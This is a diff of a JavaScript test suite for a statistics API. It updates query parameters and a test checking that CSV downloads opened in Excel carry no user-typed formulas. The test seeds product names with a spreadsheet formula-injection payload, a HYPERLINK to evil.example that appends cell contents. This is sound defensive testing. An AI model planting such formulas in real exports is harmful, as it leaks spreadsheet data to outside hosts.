@@ -133,7 +133,7 @@ describe('hostile JSON for the API', () => {
       ['/api/v1/unit', w.tokens.unit, ['unit_id']],
       ['/api/v1/status', w.tokens.unit, ['unit_id']],
       [`/api/v1/filings/${w.periods.submitted}`, w.tokens.unit, ['unit_id']],
-      ['/api/v1/stats/aggregates', w.tokens.stats, ['from', 'to', 'rows', 'cols', 'measure', 'format', 'include_unverified', 'quarter', 'year']],
+      ['/api/v1/stats/aggregates', w.tokens.stats, ['period', 'from', 'to', 'rows', 'cols', 'measure', 'format', 'preliminary']],
       ['/api/v1/stats/performance', w.tokens.stats, ['period']],
     ];
     const before = await fingerprint(t.knex);
@@ -189,14 +189,14 @@ describe('form fields sent in shapes a browser never sends', () => {
 });
 
 describe('downloads opened in a spreadsheet', () => {
-  it('text typed by users never starts a CSV cell as a formula (= + - @): the statistics office opens these in Excel', async () => {
-    // Three units whose product name is a formula, so the product row is published.
+  it('text typed by users never reaches a CSV cell, let alone as a formula (= + - @): the statistics office opens these in Excel', async () => {
+    // Units whose product name is a formula: a view's labels are reference names only (provinces, ISIC).
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"گزارش")';
     for (const province of ['05', '06', '07']) {
       const u = await createUnit({ province_code: province, products: [{ name: evil, unit_of_measure: '+تن', annual_capacity: 1000 }] }, t.knex);
       await createFiling({ unitId: u.id, period: w.periods.verified, state: 'verified', lines: [{ product_id: u.productIds[0], produced: 50, sold: 40, sales_value: 1000 }] }, t.knex);
     }
-    const q = { from: w.periods.verified, to: w.periods.verified, rows: 'product', cols: 'province', measure: 'quantity', format: 'csv' };
+    const q = { period: w.periods.verified, rows: 'isic_division', cols: 'province', measure: 'production_value', format: 'csv' };
     const downloads = [
       await v.stats.agent.get('/stats/aggregates').query(q).buffer(true),
       await request(app).get('/api/v1/stats/aggregates').query(q).set('Authorization', `Bearer ${w.tokens.stats}`).buffer(true),
@@ -204,10 +204,11 @@ describe('downloads opened in a spreadsheet', () => {
     for (const res of downloads) {
       expect(res.status).toBe(200);
       const text = typeof res.text === 'string' ? res.text : String(res.body);
-      expect(text).toContain('HYPERLINK'); // the product is in the table…
+      expect(text).toContain('تهران');
+      expect(text).not.toContain('HYPERLINK');
       const cells = text.replace(/^\ufeff/, '').split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
       const formulas = cells.map((c) => c.replace(/,$/, '').replace(/^"/, '')).filter((c) => /^[=+\-@\t\r]/.test(c));
-      expect(formulas, '…but never as a formula').toEqual([]);
+      expect(formulas, 'never as a formula').toEqual([]);
     }
   });
 });
